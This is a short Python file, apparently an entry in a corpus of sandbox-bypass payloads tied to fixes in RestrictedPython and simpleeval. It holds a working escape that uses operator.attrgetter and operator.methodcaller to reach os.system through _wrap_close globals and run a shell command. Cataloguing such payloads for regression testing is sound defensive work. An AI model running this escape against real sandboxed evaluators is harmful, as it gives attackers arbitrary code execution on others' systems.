# Source: https://github.com/zopefoundation/RestrictedPython/pull/330 (operator.methodcaller); https://github.com/danthedeckie/simpleeval/pull/199
# Family: attr-in-string
# What: operator.methodcaller calls __subclasses__ by name
import operator

obj = operator.attrgetter("__class__.__base__")(0)
subs = operator.methodcaller("__subclasses__")(obj)
wc = [c for c in subs if c.__name__ == "_wrap_close"][0]
operator.methodcaller("__getitem__", "system")(operator.attrgetter("__init__.__globals__")(wc))("id")
